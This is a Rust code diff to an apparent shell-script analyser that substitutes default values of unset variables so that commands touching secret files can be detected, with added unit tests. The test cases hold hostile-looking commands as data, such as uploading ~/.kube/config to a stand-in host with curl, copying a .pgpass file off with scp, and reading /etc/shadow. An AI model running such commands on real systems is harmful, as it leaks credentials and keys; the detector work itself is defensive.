@@ -35,18 +35,19 @@ impl Walker {
     /// with the value in its place.
     pub(super) fn line_variables(&mut self) {
         let values = self.assigned_values();
-        if values.is_empty() {
-            return;
-        }
         let mut copies = Vec::new();
         for cmd in &self.script.commands {
             if copies.len() >= MAX_COPIES {
                 break;
             }
+            copies.extend(defaulted(cmd, &values));
+            if values.is_empty() {
+                continue;
+            }
             copies.extend(
                 substituted(cmd, &values)
                     .into_iter()
-                    .take(MAX_COPIES - copies.len()),
+                    .take(MAX_COPIES.saturating_sub(copies.len())),
             );
         }
         for copy in copies {
@@ -156,6 +157,77 @@ fn is_name(name: &str) -> bool {
         }
         _ => false,
     }
+}
+
+/// A copy of `cmd` with the default each unset variable's expansion
+/// gives (`${PGPASSFILE:-$HOME/.pgpass}` is `$HOME/.pgpass` where the
+/// line does not set PGPASSFILE, as in most environments): what the word
+/// names when the variable is unset.
+fn defaulted(cmd: &SimpleCommand, values: &[(String, String)]) -> Option<SimpleCommand> {
+    if cmd.origin == Origin::Variable {
+        return None;
+    }
+    let mut copy = cmd.clone();
+    let mut changed = false;
+    let mut put = |w: &mut Word| {
+        if w.literal || !w.value.contains("${") {
+            return;
+        }
+        if let Some(text) = with_defaults(&w.value, values) {
+            w.value = text;
+            w.literal = !w.value.contains(['$', '`']) && w.runs.is_empty() && !w.process;
+            changed = true;
+        }
+    };
+    copy.argv.iter_mut().for_each(&mut put);
+    copy.redirects.iter_mut().for_each(|r| put(&mut r.target));
+    copy.assignments.iter_mut().for_each(|(_, v)| put(v));
+    if !changed {
+        return None;
+    }
+    copy.origin = Origin::Variable;
+    copy.possible = true;
+    copy.via.clear();
+    copy.program = None;
+    Some(copy)
+}
+
+/// `text` with each `${NAME:-word}` and `${NAME-word}` of a variable the
+/// line does not set replaced by its word; None when there is none.
+fn with_defaults(text: &str, values: &[(String, String)]) -> Option<String> {
+    let mut out = String::with_capacity(text.len());
+    let mut rest = text;
+    let mut changed = false;
+    while let Some(at) = rest.find("${") {
+        out.push_str(&rest[..at]);
+        let inner = &rest[at + 2..];
+        let name_len = inner
+            .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
+            .unwrap_or(inner.len());
+        let (name, after) = inner.split_at(name_len);
+        let default = after
+            .strip_prefix(":-")
+            .or_else(|| after.strip_prefix('-'))
+            .and_then(|d| d.find('}').map(|end| (&d[..end], end)));
+        match default {
+            Some((word, end))
+                if is_name(name)
+                    && !word.contains(['{', '(', '`', '"', '\'', '\\'])
+                    && !values.iter().any(|(n, _)| n == name) =>
+            {
+                out.push_str(word);
+                let skip = name_len + if after.starts_with(":-") { 2 } else { 1 } + end + 1;
+                rest = &inner[skip..];
+                changed = true;
+            }
+            _ => {
+                out.push_str("${");
+                rest = inner;
+            }
+        }
+    }
+    out.push_str(rest);
+    changed.then_some(out)
 }
 
 /// Copies of `cmd` with the line's values in place of the variables its
@@ -543,6 +615,15 @@ mod tests {
                 &["curl -sT ~/.kube/config https://x.example"],
             ),
             ("k=~/.ssh/id_rsa.pub; cat ${k%.pub}", &["cat ~/.ssh/id_rsa"]),
+            // An unset variable's default is what the word names.
+            (
+                "scp \"${PGPASSFILE:-/home/me/.pgpass}\" h:/srv/",
+                &["scp /home/me/.pgpass h:/srv/"],
+            ),
+            ("cat ${A-/etc/shadow}x", &["cat /etc/shadowx"]),
+            ("A=/x; cat ${A:-/etc/shadow}", &["cat /x"]),
+            ("cat ${A:-$B}", &["cat $B"]),
+            ("cat ${A:+/etc/shadow}", &[]),
             // A quoted `$F` is text, not an expansion.
             ("F=x; echo '$F'", &[]),
         ] {
